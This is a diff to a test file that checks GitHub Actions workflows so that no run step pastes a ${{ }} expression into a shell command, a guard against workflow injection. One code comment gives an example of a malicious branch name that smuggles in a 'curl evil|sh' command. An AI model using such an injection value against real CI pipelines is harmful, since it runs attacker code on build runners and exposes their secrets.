@@ -1,5 +1,5 @@
 // The GitHub workflows, parsed: what triggers them and what they may do.
-import { readFile } from 'node:fs/promises';
+import { readdir, readFile } from 'node:fs/promises';
 import path from 'node:path';
 import { load } from 'js-yaml';
 import { describe, expect, it } from 'vitest';
@@ -28,13 +28,19 @@ describe('pull request workflow', () => {
     expect(order).toEqual([...order].sort((a, b) => a - b));
   });
 
-  it('never puts text a pull request author controls into a shell command', async () => {
-    for (const name of ['pull-request.yml', 'publish.yml']) {
+  it('never pastes an expression into a shell command: context values reach run steps through env', async () => {
+    // GitHub replaces ${{ … }} in the script's text before the shell reads it, so a branch name
+    // like "x\";curl evil|sh;#" would run as code; an environment variable stays data.
+    const files = (await readdir(path.join(PROJECT_ROOT, '.github/workflows'))).filter((file) => /\.ya?ml$/.test(file));
+    expect(files).toEqual(expect.arrayContaining(['publish.yml', 'pull-request.yml']));
+    for (const name of files) {
       for (const step of steps(await workflow(name))) {
-        expect(step.run ?? '', `${name}: ${step.name}`).not.toMatch(/\$\{\{\s*github\.event\.(pull_request|issue|comment|head_commit)\./);
-        expect(step.run ?? '').not.toMatch(/github\.head_ref/);
+        expect(step.run ?? '', `${name}: ${step.name ?? step.uses}`).not.toContain('${{');
       }
     }
+    const summary = steps(await workflow('pull-request.yml')).find((s) => s.run?.includes('src/cli/pr-summary.ts'))!;
+    expect(summary.env).toEqual({ BASE_REF: '${{ github.base_ref }}' });
+    expect(summary.run).toContain('"origin/$BASE_REF"');
   });
 });
 
